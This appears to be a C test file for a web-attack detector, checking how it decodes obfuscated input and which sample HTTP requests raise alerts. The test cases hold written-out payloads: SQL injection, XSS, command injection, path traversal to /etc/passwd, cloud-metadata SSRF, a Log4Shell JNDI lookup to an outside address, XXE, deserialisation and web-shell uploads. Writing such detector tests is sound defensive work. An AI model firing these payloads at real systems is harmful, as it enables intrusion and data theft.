// SPDX-License-Identifier: Apache-2.0
#include "behaviour/trial.h"
#include "behaviour/web_text.h"

static struct web_text got;

static struct bytes read_as(const char *value, bool form)
{
    struct bytes none = {NULL, 0};
    web_text_clear(&got);
    return web_text_add(&got, none, bytes_from_text(value), form ? WEB_FORM : WEB_AS_IS);
}

TEST(disguises_are_undone)
{
    CHECK(bytes_equal(read_as("%2527+or%201", true), BYTES("' or 1")));
    CHECK(bytes_equal(read_as("%u0061%uff22", false), BYTES("aB")));
    CHECK(bytes_equal(read_as("&lt;b&#x3e;&#58; &amp;gt;", false), BYTES("<b>: >")));
    CHECK(bytes_equal(read_as("\\u003cb\\x3e", false), BYTES("<b>")));
    CHECK(bytes_equal(read_as("%c0%ae%c0%af%ef%bc%8f", false), BYTES("./"
                                                                     "/")));
    CHECK(bytes_equal(read_as("a/**/b/* x */c\t d", false), BYTES("a b c d")));
    CHECK(bytes_equal(read_as("/*!50000union*/", false), BYTES(" union ")));
    CHECK(bytes_equal(read_as("a%00b%0ac", false), BYTES("ab\rc")));
    CHECK(bytes_equal(read_as("${${lower:J}n${::-d}${env:X:-i}:x}", false), BYTES("${Jndi:x}")));
    CHECK(bytes_equal(read_as("50% off, 1+1, \\u12, &;, %zz, ${", false),
        BYTES("50% off, 1+1, \\u12, &;, %zz, ${")));
}

TEST(escapes_of_json)
{
    struct bytes none = {NULL, 0}, value = BYTES("a\\\"b\\\\c\\n\\u003cd");
    web_text_clear(&got);
    CHECK(bytes_equal(web_text_add(&got, none, value, WEB_JSON), BYTES("a\"b\\c\r<d")));
}

TEST(what_a_shell_reads)
{
    struct bytes line = read_as("c\"a\"t /e\\tc", false);
    CHECK(bytes_equal(web_text_for_shell(&got, line), BYTES("cat /etc")));
    CHECK_EQ(web_text_for_shell(&got, BYTES("cat /etc")).len, 0);
}

// However long, however many: a request ends somewhere.
TEST(bounds)
{
    static char big[WEB_TEXT_BYTES * 2];
    struct bytes value = bytes_make(big, sizeof big);
    memset(big, '\'', sizeof big);
    web_text_clear(&got);
    CHECK(web_text_take(&got, BYTES("x="), &value));
    CHECK_EQ(value.len, WEB_TEXT_BYTES - 3);
    struct bytes line = web_text_add(&got, BYTES("x="), value, WEB_FORM);
    web_text_for_shell(&got, line);
    CHECK(got.len <= sizeof got.bytes);
    CHECK(!web_text_take(&got, BYTES(""), &value));
}

struct request {
    const char *url, *agent, *aside;
    uint16_t status;
};

static size_t look(struct request request, const char *kind)
{
    struct trial t;
    trial_begin(&t);
    struct record_http http = {.url = bytes_from_text(request.url),
        .http_user_agent = bytes_from_text(request.agent),
        .status = request.status,
        .has_status = request.status != 0};
    struct record record = {.type = RECORD_HTTP,
        .body = &http,
        .aside = bytes_from_text(request.aside),
        .head = {.src_ip = trial_addr(203, 0, 113, 5), .dest_ip = trial_addr(10, 0, 0, 80)}};
    trial_record(&t, &record);
    size_t hits = trial_hits(&t, "web.attack", kind);
    if (hits && request.status == 404)
        CHECK(t.hits[0]->severity == SEVERITY_LOW && !t.hits[0]->as_detector);
    trial_end(&t);
    return hits;
}

TEST(attacks)
{
    static const struct {
        struct request request;
        const char *kind;
    } cases[] = {
        {{.url = "/a?id=1%27%20UNION/**/SELECT%20password%20FROM%20users--"}, "sql_injection"},
        {{.url = "/a?id=1'+or+'1'='1"}, "sql_injection"},
        {{.url = "/a?q=%3Cscript%3Ealert(1)%3C/script%3E"}, "xss"},
        {{.url = "/ping?host=127.0.0.1;cat%20/var/x"}, "command_injection"},
        {{.url = "/ping?host=1|c''at+/x/y"}, "command_injection"},
        {{.url = "/../../../../etc/passwd", .status = 404}, "path_traversal"},
        {{.url = "/%c0%ae%c0%ae/%c0%ae%c0%ae/x"}, "path_traversal"},
        {{.url = "/p?page=php://filter/convert.base64-encode/resource=index"}, "file_inclusion"},
        {{.url = "/p?u=http://169.254.169.254/latest/meta-data/"}, "file_inclusion"},
        {{.url = "/p?x={{7*7}}"}, "template_injection"},
        {{.url = "/", .agent = "${jndi:ldap://203.0.113.9/a}"}, "log4shell"},
        {{.url = "/", .aside = "x-api: ${${lower:j}ndi:${lower:l}dap://x/a}\n"}, "log4shell"},
        {{.url = "/", .agent = "sqlmap/1.7"}, "scanner"},
        {{.url = "/", .aside = "\nx=<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>"},
            "xxe"},
        {{.url = "/", .aside = "cookie: o=O:8:\"stdClass\":1:{s:1:\"a\";i:1;}\n"},
            "deserialisation"},
        {{.url = "/", .aside = "\nobject=cnVudGltZQ"}, "deserialisation"},
        {{.url = "/up", .aside = "\na; filename=\"x.php\"\n"}, "web_shell"},
        {{.url = "/?x=<?php system('id');"}, "code_injection"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++)
        if (!look(cases[i].request, cases[i].kind))
            CHECK(
                bytes_equal(bytes_from_text(cases[i].kind), bytes_from_text(cases[i].request.url)));
}

TEST(what_is_none)
{
    static const struct request honest[] = {
        {.url = "/search?q=union+of+select+committees&page=2"},
        {.url = "/docs/select-from-where.html"},
        {.url = "/a?text=it's+5+o'clock+or+later"},
        {.url = "/img/logo.png?v=1.2.3", .agent = "Mozilla/5.0 (X11; Linux x86_64; rv:1) Gecko"},
        {.url = "/a", .aside = "cookie: id=5; ls=1; lang=en\n\n{\"name\":\"O'Neil & sons; more\"}"},
        {.url = "/%E3%81%93%E3%82%93?x=%E3%81%AB%E3%81%A1%E3%81%AF"},
        {.url = "/a?price=$5&note=50%25+off"},
    };
    for (size_t i = 0; i < sizeof honest / sizeof *honest; i++)
        CHECK_EQ(look(honest[i], NULL), 0);
}

#define LETTER                                                                                     \
    " and the words of a long letter that somebody wrote to us last week about many things"

// What stands in a long text counts half; in JSON each string is read for itself.
TEST(prose_and_json)
{
    static const struct {
        struct request request;
        size_t hits;
    } cases[] = {
        {{.url = "/", .aside = "\nt=run /bin/sh here"}, 1},
        {{.url = "/", .aside = "\nt=run /bin/sh here" LETTER LETTER}, 0},
        {{.url = "/", .aside = "\nt=${jndi:ldap://x/a}" LETTER LETTER}, 1},
        {{.url = "/", .aside = "\n{\"a\": \"x\", \"b\": \"-- x\"}"}, 0},
        {{.url = "/", .aside = "\n{\"a\": {\"b\": \"x\\\" or 1=1\"}}"}, 1},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++)
        CHECK_EQ(look(cases[i].request, NULL), cases[i].hits);
}

TEST_MAIN(T(disguises_are_undone), T(escapes_of_json), T(prose_and_json), T(what_a_shell_reads),
    T(bounds), T(attacks), T(what_is_none))
